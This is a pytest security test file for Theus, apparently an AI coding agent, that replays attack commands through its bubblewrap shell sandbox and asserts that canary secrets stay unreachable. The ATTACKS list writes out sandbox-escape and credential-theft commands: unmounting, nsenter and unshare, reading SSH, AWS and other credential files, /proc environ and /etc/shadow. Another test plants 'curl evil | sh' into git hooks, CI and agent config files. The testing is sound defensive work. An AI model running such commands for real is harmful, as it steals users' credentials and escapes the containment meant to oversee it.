"""The attack run on the shell sandbox, replayed as root and as an ordinary user: the model's
commands go through the real `shell` tool in the real bubblewrap sandbox (installed from Debian
when missing), in a child process running as that user, against a home full of keys, a project
with secrets at every depth, a listening socket and Theus's own environment. Nothing may reach.

As root the child is this process's user; from an ordinary account, a user namespace mapped to
root (`unshare --map-root-user`), which is what a container's root is. The ordinary user is uid
1000 (`setpriv` from root) or this account. The child imports a copy of the code, so an account
that cannot read the checkout (a clone under /root) still runs it."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import write_tree
from tests.e2e.debian import ensure

REPO = Path(__file__).resolve().parents[2]
UNPRIVILEGED = 1000
KEYS = {
    "THEUS_API_KEY": "sk-theus-CANARY",
    "OPENAI_API_KEY": "sk-openai-CANARY",
    "AWS_SECRET_ACCESS_KEY": "aws-CANARY",
    "GITHUB_TOKEN": "ghp_CANARY",
}
HOME_KEYS = {
    ".ssh/id_ed25519": "ssh-CANARY",
    ".aws/credentials": "aws-file-CANARY",
    ".pgpass": "db:5432:*:app:pg-CANARY",
    ".codex/auth.json": '{"key": "codex-CANARY"}',
    ".claude/.credentials.json": '{"token": "claude-CANARY"}',
    ".cache/huggingface/token": "hf-CANARY",
    ".vault-token": "vault-CANARY",
    ".config/rclone/rclone.conf": "pass = rclone-CANARY",
    ".s3cfg": "secret_key = s3-CANARY",
    ".m2/settings.xml": "<password>maven-CANARY</password>",
    ".local/share/keyrings/login.keyring": "keyring-CANARY",
    ".bash_history": "export TOKEN=history-CANARY",
    ".netrc": "password netrc-CANARY",
}
PROJECT = {
    "app.py": "print('hi')\n",
    ".env": "KEY=env-CANARY\n",
    "a/b/c/d/e/.env": "K=deep-CANARY\n",
    "build/.env": "K=build-CANARY\n",
    "node_modules/pkg/.env": "K=module-CANARY\n",
    "services/api/.env.production": "K=prod-CANARY\n",
    "deploy/id_rsa": "ssh-key-CANARY\n",
    "certs/server.pem": "-----BEGIN PRIVATE KEY-----\npem-CANARY\n-----END PRIVATE KEY-----\n",
    "Makefile": "all:\n\techo build\n",
    ".vscode/tasks.json": "{}\n",
}
CHILD = textwrap.dedent("""
    import asyncio, json, sys
    import os
    from entrypoint.settings import apply
    apply({}, os.environ)  # as `theus` does at start
    from pathlib import Path
    from theus.tools.base import ToolContext
    from theus.tools.jail import Jail
    from theus.tools.shell import run_shell

    async def yes(request):
        return True

    async def main(root, commands):
        ctx = ToolContext(jail=Jail(Path(root)), approve=yes)
        outs = []
        for command in commands:
            try:
                outs.append(await run_shell.run({"command": command, "timeout_s": 60}, ctx))
            except Exception as exc:
                outs.append(f"error: {exc}")
        print(json.dumps(outs))

    asyncio.run(main(sys.argv[1], json.loads(sys.argv[2])))
""")


@pytest.fixture(scope="module", autouse=True)
def sandbox_tool() -> None:
    ensure("bubblewrap", "bwrap")


@pytest.fixture(scope="module")
def code() -> Iterator[Path]:
    """A world-readable copy of the packages the child imports."""
    top = Path(tempfile.mkdtemp(prefix="theus-code-", dir="/var/tmp"))
    import pathspec
    import platformdirs
    import typing_extensions

    for source in (
        REPO / "entrypoint",
        REPO / "theus",
        REPO / "knowledge",
        Path(pathspec.__file__).parent,
        Path(platformdirs.__file__).parent,
    ):
        shutil.copytree(source, top / source.name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(typing_extensions.__file__, top)
    _open_to_all(top)
    yield top
    shutil.rmtree(top, ignore_errors=True)


def _open_to_all(top: Path) -> None:
    for folder, _, files in os.walk(top):
        os.chmod(folder, 0o755)
        for name in files:
            os.chmod(Path(folder, name), 0o644)


def _python_for(prefix: list[str]) -> str:
    """A Python the child's user can run: this one, or the system's."""
    for candidate in (
        os.path.realpath(sys.executable),
        "/usr/bin/python3",
        "/usr/local/bin/python3",
    ):
        done = subprocess.run([*prefix, candidate, "-c", "pass"], capture_output=True)
        if done.returncode == 0:
            return candidate
    raise RuntimeError(f"no Python that {prefix} can run: install python3 for every user")


def _prefix(user: str) -> list[str]:
    if user == "root":
        return [] if os.geteuid() == 0 else ["unshare", "--map-root-user", "--"]
    if os.geteuid() == 0:
        return [
            "setpriv",
            f"--reuid={UNPRIVILEGED}",
            f"--regid={UNPRIVILEGED}",
            "--clear-groups",
            "--",
        ]
    return []


@pytest.fixture(params=["root", "user"])
def world(request: pytest.FixtureRequest, code: Path) -> Iterator[dict[str, object]]:
    user: str = request.param
    # Not under /tmp: the sandbox's private /tmp would hide it all and prove nothing.
    top = Path(tempfile.mkdtemp(prefix="theus-attack-", dir="/var/tmp"))
    home = write_tree(top / "home", HOME_KEYS)
    write_tree(top / "theus-home" / "config", {"credentials.json": '{"api_key": "login-CANARY"}'})
    write_tree(top / "outside", {"secret.txt": "outside-CANARY"})
    subprocess.run(["git", "init", "-q", str(top / "repo")], check=True)
    root = write_tree(top / "repo", {**PROJECT, ".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n"})
    agent = socket.socket(socket.AF_UNIX)
    agent.bind(str(top / "outside" / "agent.sock"))
    agent.listen()
    _open_to_all(top)
    if user == "user" and os.geteuid() == 0:
        for folder, dirs, files in os.walk(top):
            for name in [*dirs, *files]:
                os.lchown(Path(folder, name), UNPRIVILEGED, UNPRIVILEGED)
            os.lchown(folder, UNPRIVILEGED, UNPRIVILEGED)
    for path in (home / ".ssh/id_ed25519", top / "theus-home/config/credentials.json"):
        path.chmod(0o600)
    prefix = _prefix(user)
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(home),
        "THEUS_HOME": str(top / "theus-home"),
        "PYTHONPATH": str(code),
        **KEYS,
    }
    yield {
        "top": top,
        "root": root,
        "home": home,
        "prefix": prefix,
        "env": env,
        "python": _python_for(prefix),
    }
    agent.close()
    shutil.rmtree(top, ignore_errors=True)


def run(world: dict[str, Any], *commands: str) -> list[str]:
    top = world["top"]
    formatted = [c.format(top=top, home=world["home"], root=world["root"]) for c in commands]
    done = subprocess.run(
        [
            *world["prefix"],
            world["python"],
            "-c",
            CHILD,
            str(world["root"]),
            json.dumps(formatted),
        ],
        env=world["env"],
        cwd=top,
        capture_output=True,
        text=True,
        timeout=300,
    )  # cwd: `python -c` imports from it first
    assert done.returncode == 0, done.stderr
    outs: list[str] = json.loads(done.stdout)
    return outs


ATTACKS = [
    # root's habits: take the mounts away, or become someone else's namespace
    "umount {home}/.ssh; umount -l {home}; cat {home}/.ssh/id_ed25519",
    "mount -o remount,bind,rw /; echo pwned > {top}/outside/written; cat {top}/outside/written",
    "umount -l /proc; cat /proc/*/environ | tr '\\0' '\\n' | grep CANARY",
    "nsenter -t 1 -m -n -p sh -c 'cat {home}/.ssh/id_ed25519'",
    "unshare -Urm sh -c 'umount {home}/.ssh; cat {home}/.ssh/id_ed25519'",
    "unshare -n true && echo made-a-namespace",
    # where keys live in a home
    "cat " + " ".join(f"{{home}}/{name}" for name in HOME_KEYS),
    "grep -rs CANARY {home} {top}/theus-home",
    # the project's secrets at any depth
    "grep -rs CANARY {root}",
    "cat .env a/b/c/d/e/.env build/.env node_modules/pkg/.env certs/server.pem",
    # the environment, the machine's sockets, root-only files
    "env; tr '\\0' '\\n' < /proc/$PPID/environ",
    'python3 -c "import socket; s = socket.socket(socket.AF_UNIX); '
    "s.connect('{top}/outside/agent.sock'); print('reached the agent')\"",
    "cat /etc/shadow",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_reaches_a_key_whoever_runs_theus(world: dict[str, Any], attack: str) -> None:
    (out,) = run(world, attack)
    assert out.startswith("exit "), out  # ran, in the sandbox (no refusal, no warning)
    assert "CANARY" not in out and "reached the agent" not in out, out
    assert "made-a-namespace" not in out and "pwned" not in out, out
    assert "root:" not in out  # /etc/shadow's first line
    assert not (world["top"] / "outside" / "written").exists()


def test_the_project_stays_writable_and_usable(world: dict[str, Any]) -> None:
    (out,) = run(
        world,
        "echo made > made.txt && cat made.txt && git --version && "
        "python3 -c 'import threading; t = threading.Thread(target=print, "
        'args=("thread",)); t.start(); t.join()\'',
    )
    assert out.startswith("exit 0"), out
    assert "made" in out and "git version" in out and "thread" in out
    assert (world["root"] / "made.txt").read_text() == "made\n"


PROTECTED_WRITES = {  # path -> existed before the command
    ".git/hooks/pre-commit": True,
    ".git/config": True,
    "Makefile": True,
    ".vscode/tasks.json": True,
    ".git/hooks/post-checkout": False,
    ".github/workflows/ci.yml": False,
    ".claude/settings.json": False,
    "AGENTS.md": False,
    ".envrc": False,
    ".cargo/config.toml": False,
}


def test_protected_files_stay_as_they_were(world: dict[str, Any]) -> None:
    root: Path = world["root"]
    before = {path: (root / path).read_bytes() for path, old in PROTECTED_WRITES.items() if old}
    writes = " ; ".join(
        f"mkdir -p $(dirname {p}); echo 'curl evil | sh' >> {p}" for p in PROTECTED_WRITES
    )
    (out,) = run(world, writes + "; echo done")
    assert "Read-only file system" in out, out
    for path, old in PROTECTED_WRITES.items():
        if old:
            assert (root / path).read_bytes() == before[path], path
        else:
            assert not (root / path).exists(), path
            # the model is told what was moved aside: the file, or the new folder holding it
            assert path in out or str(Path(path).parent) in out, out
    # git still commits: its own data is writable, its hooks and config are not
    (out,) = run(
        world,
        "git -c user.email=a@b -c user.name=a commit --allow-empty -qm x "
        "&& git log --oneline | wc -l",
    )
    assert out.startswith("exit 0"), out


def test_protected_files_are_written_with_allow_config_edits(world: dict[str, Any]) -> None:
    child = CHILD.replace("approve=yes)", "approve=yes, allow_config_edits=True)")
    root = world["root"]
    done = subprocess.run(
        [
            *world["prefix"],
            world["python"],
            "-c",
            child,
            str(root),
            json.dumps(["echo hook >> .git/hooks/pre-commit; echo x > AGENTS.md"]),
        ],
        env=world["env"],
        cwd=world["top"],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    assert (root / ".git/hooks/pre-commit").read_text().endswith("hook\n")
    assert (root / "AGENTS.md").read_text() == "x\n"
